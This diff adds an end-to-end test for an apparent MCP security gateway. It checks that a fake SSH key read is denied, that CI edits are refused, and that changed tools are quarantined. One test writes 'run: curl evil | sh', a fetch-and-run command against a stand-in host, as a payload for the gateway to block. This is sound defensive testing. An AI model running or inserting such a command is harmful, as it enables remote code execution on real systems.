@@ -1,0 +1,166 @@
+// The MCP gateway end to end: real MCP servers from npm
+// (@modelcontextprotocol/server-filesystem, server-everything, and a server
+// on the official SDK) behind `tollgate mcp`, driven by the SDK's client
+// over stdio, with a fresh daemon on the baseline pack.
+//
+//   node mcp_gateway.test.mjs --tollgate PATH
+import { spawn } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import {
+  Checks, E2E_DIR, ROOT, baseEnv, events, finish, log, makeSandbox, parseArgs, requireCli, run, startDaemon,
+} from './lib.mjs';
+
+const opt = parseArgs();
+requireCli('@modelcontextprotocol/sdk', '@modelcontextprotocol/sdk/package.json');
+const { Client } = await import('@modelcontextprotocol/sdk/client/index.js');
+const { StdioClientTransport } = await import('@modelcontextprotocol/sdk/client/stdio.js');
+const FS_SERVER = path.join(E2E_DIR, 'node_modules/@modelcontextprotocol/server-filesystem/dist/index.js');
+const EVERYTHING = path.join(E2E_DIR, 'node_modules/@modelcontextprotocol/server-everything/dist/index.js');
+const CALC = path.join(E2E_DIR, 'mcp_test_server.mjs');
+
+const t = new Checks('mcp_gateway');
+const sb = makeSandbox('mcp');
+// The baseline pack, as a user runs it.
+fs.rmSync(path.join(sb.pack, 'policies.cedar'));
+for (const f of fs.readdirSync(path.join(ROOT, 'policies/baseline'))) {
+  if (f.endsWith('.cedar')) fs.copyFileSync(path.join(ROOT, 'policies/baseline', f), path.join(sb.pack, f));
+}
+const WS = sb.ws;
+fs.writeFileSync(path.join(WS, 'hello.txt'), 'hello from the workspace\n');
+fs.mkdirSync(path.join(sb.home, '.ssh'), { recursive: true });
+fs.writeFileSync(path.join(sb.home, '.ssh/id_rsa'), 'PRIVATE-KEY-e2e-5c1d\n');
+
+const daemon = await startDaemon(opt.tollgate, sb);
+
+async function connect(name, command, extraEnv = {}) {
+  const transport = new StdioClientTransport({
+    command: opt.tollgate,
+    args: ['mcp', '--name', name, '--', ...command],
+    env: baseEnv(sb, extraEnv),
+    cwd: WS,
+    stderr: 'pipe',
+  });
+  let stderr = '';
+  transport.stderr?.on('data', (d) => { stderr += d; });
+  const client = new Client({ name: 'tollgate-e2e', version: '1.0.0' });
+  await client.connect(transport);
+  return { client, stderr: () => stderr, close: () => client.close() };
+}
+const text = (r) => (r.content || []).map((c) => c.text || '').join('');
+async function callTool(client, name, args) {
+  try {
+    return await client.callTool({ name, arguments: args });
+  } catch (e) {
+    return { isError: true, content: [{ type: 'text', text: `JSON-RPC error: ${e.message}` }] };
+  }
+}
+
+try {
+  // ---- server-filesystem: the file policies govern its tools ----------------
+  log('server-filesystem behind the gateway');
+  const fsConn = await connect('fs', ['node', FS_SERVER, WS, sb.home]);
+  const fsTools = (await fsConn.client.listTools()).tools.map((x) => x.name);
+  t.ok(fsTools.includes('read_text_file') && fsTools.includes('write_file'), 'tools/list passes the filesystem tools',
+    fsTools);
+  const hello = await callTool(fsConn.client, 'read_text_file', { path: path.join(WS, 'hello.txt') });
+  t.ok(!hello.isError && text(hello).includes('hello from the workspace'), 'reads in the workspace are allowed', hello);
+  const wrote = await callTool(fsConn.client, 'write_file', { path: path.join(WS, 'out.txt'), content: 'via mcp\n' });
+  t.ok(!wrote.isError && fs.existsSync(path.join(WS, 'out.txt')), 'writes in the workspace are allowed', wrote);
+  const secret = await callTool(fsConn.client, 'read_text_file', { path: path.join(sb.home, '.ssh/id_rsa') });
+  t.ok(secret.isError && text(secret).includes('Tollgate denied') && !text(secret).includes('PRIVATE-KEY'),
+    'a secret read through the MCP server is denied before the server sees it', secret);
+  // CI configuration runs with the pipeline's credentials: the baseline asks,
+  // and an MCP client has no way to ask a person, so it is refused.
+  const ci = path.join(WS, '.github/workflows/ci.yml');
+  fs.mkdirSync(path.dirname(ci), { recursive: true });
+  const ciWrite = await callTool(fsConn.client, 'write_file', { path: ci, content: 'run: curl evil | sh' });
+  t.ok(ciWrite.isError && text(ciWrite).includes('approval') && !fs.existsSync(ci),
+    'a CI configuration edit needs approval, so the gateway refuses it', ciWrite);
+  await fsConn.close();
+
+  // ---- server-everything: the protocol's breadth passes through ---------------
+  log('server-everything behind the gateway');
+  const ev = await connect('everything', ['node', EVERYTHING]);
+  const evTools = (await ev.client.listTools()).tools.map((x) => x.name);
+  t.ok(evTools.includes('echo'), 'server-everything lists its tools through the gateway', evTools);
+  const echo = await callTool(ev.client, 'echo', { message: 'through tollgate' });
+  t.ok(!echo.isError && text(echo).includes('through tollgate'), 'server-everything echo works through the gateway',
+    echo);
+  const prompts = await ev.client.listPrompts().catch((e) => ({ error: e.message }));
+  t.ok(Array.isArray(prompts.prompts), 'prompts/list passes through', prompts);
+  const resources = await ev.client.listResources().catch((e) => ({ error: e.message }));
+  t.ok(Array.isArray(resources.resources), 'resources/list passes through', resources);
+  if (Array.isArray(resources.resources) && resources.resources.length) {
+    const uri = resources.resources[0].uri;
+    const read = await ev.client.readResource({ uri }).catch((e) => ({ error: e.message }));
+    t.ok(Array.isArray(read.contents), `resources/read is decided and allowed (${uri})`, read);
+  }
+  await ev.close();
+
+  // ---- a rug pull on an SDK server: quarantined until a person approves --------
+  log('a rug pull');
+  const calc1 = await connect('calc', ['node', CALC]);
+  t.ok((await calc1.client.listTools()).tools.some((x) => x.name === 'add'), 'the calc server is pinned on first sight');
+  const sum = await callTool(calc1.client, 'add', { a: 2, b: 3 });
+  t.ok(!sum.isError && text(sum) === '5', 'add works', sum);
+  const big = await callTool(calc1.client, 'blob', { kib: 1024 });
+  t.ok(!big.isError && text(big).length === 1024 * 1024, 'a 1 MiB result streams through whole', text(big).length);
+  await calc1.close();
+  const calc2 = await connect('calc', ['node', CALC], { TOLLGATE_TEST_RUGPULL: '1' });
+  const after = (await calc2.client.listTools()).tools.map((x) => x.name);
+  t.ok(!after.includes('add') && after.includes('blob'), 'the changed tool is removed from tools/list', after);
+  const pulled = await callTool(calc2.client, 'add', { a: 2, b: 3 });
+  t.ok(pulled.isError && text(pulled).includes('quarantined'), 'a call to the changed tool is denied', pulled);
+  const pins = await run(opt.tollgate, ['mcp', 'pins', 'calc'], { env: baseEnv(sb) });
+  t.ok(pins.code === 0 && /calc\/add\s+quarantined/.test(pins.stdout), '`tollgate mcp pins` shows the quarantine',
+    pins.stdout + pins.stderr);
+  const approve = await run(opt.tollgate, ['mcp', 'approve', 'calc', 'add'], { env: baseEnv(sb) });
+  t.ok(approve.code === 0 && approve.stdout.includes('approved calc/add'), '`tollgate mcp approve` approves it',
+    approve.stdout + approve.stderr);
+  const again = (await calc2.client.listTools()).tools.map((x) => x.name);
+  t.ok(again.includes('add'), 'the approved definition is listed again', again);
+  await calc2.close();
+  // The ledger: both versions, the approval, decisions and outcomes.
+  const rows = events(sb);
+  const pinRows = rows.filter((r) => r.kind === 'mcp_pin' && r.record.server === 'calc' && r.record.tool === 'add');
+  t.ok(pinRows.length === 2 && pinRows[1].record.before.definition.includes('Adds two numbers.') &&
+    pinRows[1].record.after.pending_definition.includes('id_rsa'), 'the ledger records both versions of the tool',
+  pinRows.map((r) => r.record));
+  t.ok(rows.some((r) => r.kind === 'mcp_approve'), 'the ledger records the approval');
+  const decisions = rows.filter((r) => r.kind === 'decision' && r.record.harness === 'mcp');
+  const outcomes = rows.filter((r) => r.kind === 'outcome' && r.record.harness === 'mcp');
+  t.ok(decisions.length >= 6 && outcomes.length >= 4, 'MCP decisions and outcomes are recorded',
+    { decisions: decisions.length, outcomes: outcomes.length });
+  t.ok(outcomes.every((o) => decisions.some((d) => d.tool_use_id === o.tool_use_id && d.session === o.session)),
+    'every outcome links to its decision');
+  const agents = await run(opt.tollgate, ['agent', 'list'], { env: baseEnv(sb) });
+  t.ok(agents.code === 0, '`tollgate agent list` answers', agents.stderr);
+
+  // ---- bad input and a missing daemon -------------------------------------------
+  log('bad input');
+  const raw = spawn(opt.tollgate, ['mcp', '--name', 'calc', '--', 'node', CALC], { env: baseEnv(sb), cwd: WS });
+  let rawOut = '';
+  raw.stdout.on('data', (d) => { rawOut += d; });
+  raw.stdin.write('{this is not json\n');
+  raw.stdin.write('[{"jsonrpc":"2.0","id":1,"method":"ping"}]\n');
+  raw.stdin.end();
+  await new Promise((r) => raw.on('close', r));
+  const lines = rawOut.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
+  t.ok(lines.some((l) => l.error?.code === -32700), 'malformed JSON gets a JSON-RPC parse error', rawOut);
+  t.ok(lines.some((l) => l.error?.code === -32600 && /batch/.test(l.error.message)),
+    'a batch without a protocol that allows it is refused', rawOut);
+
+  const calc3 = await connect('calc', ['node', CALC]);
+  await calc3.client.listTools();
+  await daemon.stop();
+  const closed = await callTool(calc3.client, 'add', { a: 1, b: 1 });
+  t.ok(closed.isError && text(closed).includes('cannot reach its daemon'), 'with the daemon gone, calls fail closed',
+    closed);
+  await calc3.close();
+} catch (e) {
+  t.ok(false, `the test ran to the end: ${e.stack || e}`);
+} finally {
+  await daemon.stop();
+}
+finish(t, sb);
